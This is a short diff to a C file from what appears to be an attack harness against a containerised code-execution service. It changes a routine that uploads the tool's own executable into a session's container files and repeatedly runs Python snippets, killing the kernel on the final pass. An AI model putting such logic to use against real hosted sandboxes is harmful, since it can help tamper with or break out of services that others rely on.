@@ -196,24 +196,21 @@ static int first_part(struct attack_lane *lane, const struct attack *a, const ch
     return r;
 }
 
-/* Kernels die and are born, and init writes and reads, while what was laid in the session hunts. */
+/* What is born beside a kernel: init's child for each upload; and at the end the next kernel. */
 static int stir(
     struct attack_lane *lane, const struct attack *a, const char *session, struct error *e)
 {
     char path[160];
     snprintf(path, sizeof(path), "/containers/%s/files", session);
     int r = 0;
-    for (unsigned i = 0; r == 0 && i < a->stir; i++) {
+    for (unsigned i = 0; r == 0 && i <= a->stir; i++) {
         json_t *done = NULL;
-        r = execute(lane, session, "import os; os._exit(0)", 10, &done, e);
-        json_decref(done);
         cleanup_fd int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
         cleanup_strbuf struct strbuf answer = STRBUF_INIT(REMOTE_ANSWER_MAX);
+        r = remote_upload(&lane->remote, path, "program.bin", fd, NULL, &answer, e);
         if (r == 0)
-            r = remote_upload(&lane->remote, path, "program.bin", fd, NULL, &answer, e);
-        done = NULL;
-        if (r == 0)
-            r = execute(lane, session, "x = 1", 10, &done, e);
+            r = execute(
+                lane, session, i < a->stir ? "x = 1" : "import os; os._exit(0)", 10, &done, e);
         json_decref(done);
     }
     return r;
